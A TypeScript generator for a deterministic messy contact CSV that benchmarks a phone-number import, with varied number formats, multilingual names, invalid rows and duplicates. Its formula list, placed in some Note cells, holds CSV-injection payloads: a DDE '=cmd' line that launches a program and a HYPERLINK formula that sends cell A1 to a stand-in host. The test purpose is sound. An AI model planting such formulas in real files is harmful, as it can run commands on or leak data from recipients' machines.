/**
 * A messy contact file, as real customers send them (issue 11): a UTF-8 BOM, numbers written nationally and
 * internationally in many ways, multi-line quoted names, cells that look like formulas, Cyrillic and Vietnamese
 * names, about 25% invalid rows and 15% repeats of earlier numbers (written another way). Deterministic: the
 * same seed and row count give the same bytes.
 *
 * Columns: Phone, First name, Last name, Email, Country (ISO code on some rows: national numbers of other
 * countries), Note. The import maps them with the default country RU (national Russian numbers have no country).
 */
import * as fs from 'node:fs';

export const MESSY_HEADER = 'Phone,First name,Last name,Email,Country,Note';
export const MESSY_DEFAULT_COUNTRY = 'RU';

/** Deterministic pseudo-random numbers (mulberry32). */
export function rng(seed: number): () => number {
  let a = seed;
  return () => {
    a |= 0;
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** A mobile number's parts: country, calling code, national significant number, and the national trunk prefix. */
interface Mobile {
  country: string;
  cc: string;
  nsn: string;
  trunk: string;
}

/** [country, calling code, mobile prefix, free digits, trunk prefix]: the counter fills the free digits. */
const MOBILE_TEMPLATES: Array<[string, string, string, number, string]> = [
  ['RU', '7', '916', 7, '8'],
  ['RU', '7', '926', 7, '8'],
  ['RU', '7', '903', 7, '8'],
  ['VN', '84', '91', 7, '0'],
  ['VN', '84', '98', 7, '0'],
  ['GB', '44', '7400', 6, '0'],
  ['DE', '49', '151', 8, '0'],
  ['FR', '33', '6', 8, '0'],
  ['US', '1', '2015', 6, '1'],
  ['BR', '55', '119', 8, '0'],
];

export function mobile(i: number): Mobile {
  const [country, cc, prefix, free, trunk] = MOBILE_TEMPLATES[i % MOBILE_TEMPLATES.length];
  const n = Math.floor(i / MOBILE_TEMPLATES.length) + 1_000;
  return { country, cc, nsn: prefix + String(n % 10 ** free).padStart(free, '0'), trunk };
}

const group = (digits: string, sizes: number[]): string => {
  const out: string[] = [];
  let p = 0;
  for (const s of sizes) {
    if (p >= digits.length) break;
    out.push(digits.slice(p, p + s));
    p += s;
  }
  if (p < digits.length) out[out.length - 1] += digits.slice(p);
  return out.join(' ');
};

/**
 * A number as files write it. National forms of numbers outside RU need their country column (`country` set in
 * the result); Russian national numbers read with the import's default country.
 */
function write(m: Mobile, r: number): { phone: string; country: string } {
  const national = m.country !== 'RU';
  if (r < 0.3) return { phone: `+${m.cc}${m.nsn}`, country: '' };
  if (r < 0.45) return { phone: `+${m.cc} ${group(m.nsn, [3, 3, 2, 2])}`, country: '' };
  if (r < 0.55) return { phone: `00${m.cc}${m.nsn}`, country: '' };
  // without its plus, 84... reads as a Russian national number (trunk 8) under the default country: left out
  if (r < 0.65 && m.cc !== '84') return { phone: `${m.cc}${m.nsn}`, country: '' };
  if (r < 0.75) return { phone: `+${m.cc} (${m.nsn.slice(0, 3)}) ${m.nsn.slice(3, 6)}-${m.nsn.slice(6)}`, country: '' };
  if (m.country === 'US') return { phone: `(${m.nsn.slice(0, 3)}) ${m.nsn.slice(3, 6)}-${m.nsn.slice(6)}`, country: 'US' };
  if (r < 0.88) return { phone: `${m.trunk}${m.nsn}`, country: national ? m.country : '' };
  return { phone: `${m.trunk} (${m.nsn.slice(0, 3)}) ${m.nsn.slice(3, 6)}-${m.nsn.slice(6, 8)}-${m.nsn.slice(8)}`, country: national ? m.country : '' };
}

/** Numbers no import accepts: garbage, too short or long, unknown codes, national numbers of the wrong country. */
function invalidPhone(rand: () => number, i: number): string {
  const k = Math.floor(rand() * 9);
  switch (k) {
    case 0:
      return 'n/a';
    case 1:
      return '';
    case 2:
      return `+${Math.floor(rand() * 1e5)}`;
    case 3:
      return `8 916 ${Math.floor(rand() * 1e4)}`;
    case 4:
      return `+999 ${Math.floor(rand() * 1e9)}`;
    case 5:
      return `tel: ask ${['Ivan', 'Lan'][i % 2]}`;
    case 6:
      // a Moscow landline: valid, but not a mobile
      return `+7 495 ${String(1_000_000 + (i % 8_999_999)).slice(0, 3)}-${String(i % 100).padStart(2, '0')}-${String((i >> 7) % 100).padStart(2, '0')}`;
    case 7:
      // a Hanoi landline
      return `+84 24 ${String(3800_0000 + (i % 9_999_999)).slice(0, 4)} ${String(i % 10_000).padStart(4, '0')}`;
    default:
      return `0${Math.floor(rand() * 1e6)}`;
  }
}

const FIRST = ['Дмитрий', 'Ольга', 'Анна-Мария', 'Сергей', 'Nguyễn Văn', 'Trần Thị', 'Lê Hoàng', 'Phạm Minh', 'Ann', 'Jürgen', 'Chloé', 'José', 'Ёжик', 'Hương'];
const LAST = ['Иванов', 'Смирнова', 'Кузнецов', 'Nguyễn', 'Trần', 'Lê', 'Phạm Thị Thu', "O'Brien", 'Müller', 'Dupont', 'da Silva', 'Đặng'];
const FORMULAS = ['=HYPERLINK("http://x.example/?a="&A1,"click")', '+SUM(1,2)', '-2+3', '@cmd', '=1+1', '=cmd|\' /C calc\'!A0'];
const NOTES = ['VIP', 'звонить после 18:00', 'gọi lại sau', 'прислал "счёт", ждёт', 'a; b; c', '', '', ''];

const quote = (s: string): string => (/[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);

export interface MessyExpectation {
  rows: number;
  /** Rows whose number no import accepts (invalid or not a mobile). */
  invalid: number;
  /** Rows repeating an earlier row's number, written another way. */
  duplicates: number;
  /** Distinct valid mobile numbers: the contacts the import should make. */
  contacts: number;
  multiline: number;
  formulas: number;
  bytes: number;
}

/** Writes the file; INVALID and DUPLICATE are shares of rows. */
export async function generateMessyCsv(file: string, rows: number, seed = 11, INVALID = 0.25, DUPLICATE = 0.15): Promise<MessyExpectation> {
  const rand = rng(seed);
  const out = fs.createWriteStream(file);
  let chunk = `\uFEFF${MESSY_HEADER}\r\n`;
  const e: MessyExpectation = { rows, invalid: 0, duplicates: 0, contacts: 0, multiline: 0, formulas: 0, bytes: 0 };
  const recent: number[] = [];
  let unique = 0;
  for (let row = 0; row < rows; row++) {
    const r = rand();
    let phone: string;
    let country = '';
    if (r < INVALID) {
      phone = invalidPhone(rand, row);
      e.invalid++;
    } else if (r < INVALID + DUPLICATE && recent.length) {
      ({ phone, country } = write(mobile(recent[Math.floor(rand() * recent.length)]), rand()));
      e.duplicates++;
    } else {
      const id = unique++;
      ({ phone, country } = write(mobile(id), rand()));
      e.contacts++;
      if (recent.length < 20_000) recent.push(id);
      else recent[Math.floor(rand() * recent.length)] = id;
    }
    let first = FIRST[Math.floor(rand() * FIRST.length)];
    const last = LAST[Math.floor(rand() * LAST.length)];
    if (rand() < 0.03) {
      first = `${first}\n${FIRST[row % FIRST.length]}`;
      e.multiline++;
    }
    let note = NOTES[row % NOTES.length];
    if (rand() < 0.03) {
      note = FORMULAS[row % FORMULAS.length];
      e.formulas++;
    }
    const email = rand() < 0.6 ? `user${row}@example.com` : '';
    const lineEnd = row % 3 === 0 ? '\n' : '\r\n';
    chunk += `${quote(phone)},${quote(first)},${quote(last)},${email},${country},${quote(note)}${lineEnd}`;
    if (chunk.length > 1 << 20) {
      e.bytes += Buffer.byteLength(chunk);
      if (!out.write(chunk)) await new Promise<void>((res) => out.once('drain', () => res()));
      chunk = '';
    }
  }
  e.bytes += Buffer.byteLength(chunk);
  out.end(chunk);
  await new Promise<void>((res) => out.once('finish', () => res()));
  return e;
}

/** The import's mapping of the messy file's columns (the Note column goes to a custom variable `note`). */
export const MESSY_MAPPING = [
  { column: 0, variable: 'phone' },
  { column: 1, variable: 'firstName' },
  { column: 2, variable: 'lastName' },
  { column: 3, variable: 'email' },
  { column: 4, variable: 'country' },
  { column: 5, variable: 'note' },
];

/** Run alone, writes a file: `node dist/bench/contacts-messy.js out.csv [rows] [seed]`. */
if (require.main === module) {
  const [file, rows = '1000000', seed = '11'] = process.argv.slice(2);
  if (!file) {
    console.error('usage: contacts-messy.js <out.csv> [rows] [seed]');
    process.exit(2);
  }
  generateMessyCsv(file, Number(rows), Number(seed)).then((e) => console.log(JSON.stringify(e)));
}
